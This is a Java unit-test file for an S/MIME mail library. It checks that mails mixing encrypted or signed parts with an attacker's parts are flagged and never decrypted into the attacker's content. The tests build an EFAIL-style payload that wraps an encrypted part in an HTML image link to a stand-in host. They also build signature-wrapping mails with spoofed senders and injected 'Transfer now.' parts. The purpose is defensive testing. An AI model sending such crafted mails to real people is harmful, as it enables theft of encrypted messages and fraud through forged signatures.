package org.sealgate.smime;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.sealgate.fixtures.mail.TestMails;
import org.sealgate.fixtures.pki.TestIdentity;
import org.sealgate.fixtures.pki.TestPki;
import org.sealgate.smime.Verdict.SmimeResult;

/**
 * Mails of which only a part is protected: somebody put protected parts of others among his own.
 * The verdict says so, and no part is ever put into another.
 */
@SuppressWarnings("StringConcatToTextBlock") // line ends are CRLF here
class PartialProtectionTest {
  private static final byte[] SECRET = TestMails.plain("Secret", "the secret text\n");
  private static final String HEADER =
      "From: mallory@example.com\r\nTo: bob@example.net\r\nSubject: look\r\n"
          + "MIME-Version: 1.0\r\n";

  private final TestPki pki = TestPki.shared();
  private final TestIdentity alice = pki.user("alice@example.org").issue();
  private final TestIdentity bob = pki.user("bob@example.net").issue();

  private static String part(byte[] sealed) {
    return Sealing.text(Sealing.entity(sealed));
  }

  private static byte[] multipart(String type, String... parts) {
    StringBuilder text = new StringBuilder(HEADER);
    text.append("Content-Type: multipart/").append(type).append("; boundary=b\r\n\r\n");
    for (String part : parts) {
      text.append("--b\r\n").append(part).append("\r\n");
    }
    return Sealing.octets(text.append("--b--\r\n").toString());
  }

  private static String html(String text) {
    return "Content-Type: text/html\r\n\r\n" + text;
  }

  /** Nothing of the secret is released, and the mail stays octet for octet what it was. */
  private Verdict assertLeftAlone(byte[] mail) {
    Sealing.Opened opened = Sealing.open(mail, bob);
    assertThat(opened.message()).isEqualTo(mail);
    assertThat(Sealing.text(opened.content())).doesNotContain("the secret text");
    assertThat(opened.verdict().encrypted()).isFalse();
    assertThat(opened.verdict().result()).isNotEqualTo(SmimeResult.PASS);
    return opened.verdict();
  }

  @ParameterizedTest
  @ValueSource(strings = {"mixed", "related", "alternative", "digest", "report", "unheard-of"})
  void directExfiltrationBetweenHtmlPartsReleasesNothing(String type) {
    String encrypted = part(Sealing.encrypted(SECRET, bob));
    byte[] mail = multipart(type, html("<img src='http://m.example/?"), encrypted, html("'>"));
    assertThat(Payloads.codes(assertLeftAlone(mail))).containsExactly("encrypted-part");
  }

  @Test
  void anEncryptedPartHiddenDeepDownOrInAForwardedMailIsSaid() {
    String encrypted = part(Sealing.encrypted(SECRET, bob));
    String inner =
        "Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n" + encrypted + "\r\n--c--";
    String forwarded = "Content-Type: message/rfc822\r\n\r\n" + HEADER + encrypted;
    for (String hidden : List.of(inner, forwarded)) {
      byte[] mail = multipart("mixed", html("Please answer."), hidden);
      Verdict verdict = assertLeftAlone(mail);
      assertThat(Payloads.codes(verdict)).containsExactly("encrypted-part");
      assertThat(verdict.structure().getFirst().reason()).startsWith("part 2.1 ");
    }
  }

  @Test
  void aSignatureAroundAForeignEncryptedPartDoesNotReleaseIt() {
    String encrypted = part(Sealing.encrypted(SECRET, bob));
    byte[] mixed = multipart("mixed", html("<style>"), encrypted);
    byte[] mail =
        Sealing.signed(
            Sealing.octets(Sealing.text(mixed).replace("mallory@example.com", "alice@example.org")),
            alice);
    Sealing.Opened opened = Sealing.open(mail, bob);
    assertThat(Sealing.text(opened.content())).doesNotContain("the secret text");
    assertThat(opened.verdict().encrypted()).isFalse();
    assertThat(Payloads.codes(opened.verdict())).containsExactly("encrypted-part");
  }

  @Test
  void anAttackersTextAroundAWholeEncryptedMailIsOnlyInsideOfWhatIsEncrypted() {
    // Encryption proves no author: what is inside may itself be a mixture, and is not opened more.
    String encrypted = part(Sealing.encrypted(SECRET, bob));
    byte[] outer = Sealing.encrypted(multipart("mixed", html("<img src='"), encrypted), bob);
    Sealing.Opened opened = Sealing.open(outer, bob);
    assertThat(opened.verdict().layers()).hasSize(1);
    assertThat(Sealing.text(opened.content())).doesNotContain("the secret text");
    assertThat(Payloads.codes(opened.verdict())).containsExactly("encrypted-part");
  }

  @Test
  void aSignedPartBesideAnUnsignedAttachmentMakesNoSignedMail() {
    String signed = part(Sealing.signed(TestMails.plain(), alice));
    String attachment = "Content-Type: application/pdf\r\n\r\ninvoice";
    for (byte[] mail :
        List.of(multipart("mixed", signed, attachment), multipart("mixed", attachment, signed))) {
      Verdict verdict = assertLeftAlone(mail);
      assertThat(verdict.layers()).isEmpty();
      assertThat(verdict.result()).isEqualTo(SmimeResult.NONE);
      assertThat(Payloads.codes(verdict)).containsExactly("signed-part");
    }
  }

  @Test
  void anOpaqueSignedPartAmongOthersMakesNoSignedMail() {
    SignOptions opaque = SignOptions.by(Sealing.identity(alice)).asOpaque();
    String signed = part(Sealing.signed(TestMails.plain(), opaque));
    Verdict verdict = assertLeftAlone(multipart("mixed", html("Transfer now."), signed));
    assertThat(verdict.layers()).isEmpty();
    assertThat(Payloads.codes(verdict)).containsExactly("signed-part");
  }

  private byte[] signedWith(String before, String behind) {
    String mail = Sealing.text(Sealing.signed(TestMails.plain(), alice));
    int at = mail.indexOf("boundary=\"") + 10;
    String boundary = "--" + mail.substring(at, mail.indexOf('"', at));
    int first = mail.indexOf(boundary + "\r\n");
    int end = mail.lastIndexOf(boundary + "--");
    String added = boundary + "\r\n";
    return Sealing.octets(
        mail.substring(0, first)
            + (before.isEmpty() ? "" : added + before + "\r\n")
            + mail.substring(first, end)
            + (behind.isEmpty() ? "" : added + behind + "\r\n")
            + mail.substring(end));
  }

  @Test
  void aThirdPartInASignedMultipartIsNotPartOfWhatIsSigned() {
    Verdict verdict = Sealing.open(signedWith("", html("Transfer now."))).verdict();
    assertThat(verdict.contentSigners().getFirst().integrity().status())
        .isEqualTo(Finding.Status.PASS);
    assertThat(Payloads.codes(verdict)).containsExactly("parts-beside-signature");
    assertThat(verdict.result()).isEqualTo(SmimeResult.POLICY);
  }

  @Test
  void aPartPutBeforeTheSignedOneIsNotTakenForIt() {
    Sealing.Opened opened = Sealing.open(signedWith(html("Transfer now."), ""));
    assertThat(opened.verdict().result())
        .isIn(SmimeResult.FAIL, SmimeResult.POLICY, SmimeResult.PERMERROR);
  }

  @Test
  void contentAndSignatureInTheWrongOrderAreUnreadableNotUnsigned() {
    String mail = Sealing.text(Sealing.signed(TestMails.plain(), alice));
    int at = mail.indexOf("boundary=\"") + 10;
    String boundary = "--" + mail.substring(at, mail.indexOf('"', at));
    String[] pieces = mail.split(Pattern.quote(boundary) + "(--)?\r\n", -1);
    String turned =
        pieces[0] + boundary + "\r\n" + pieces[2] + boundary + "\r\n" + pieces[1] + boundary
            + "--\r\n";
    Verdict verdict = Sealing.open(Sealing.octets(turned)).verdict();
    assertThat(verdict.layers()).first().isInstanceOf(Layer.Unreadable.class);
    assertThat(verdict.result()).isEqualTo(SmimeResult.PERMERROR);
  }
}
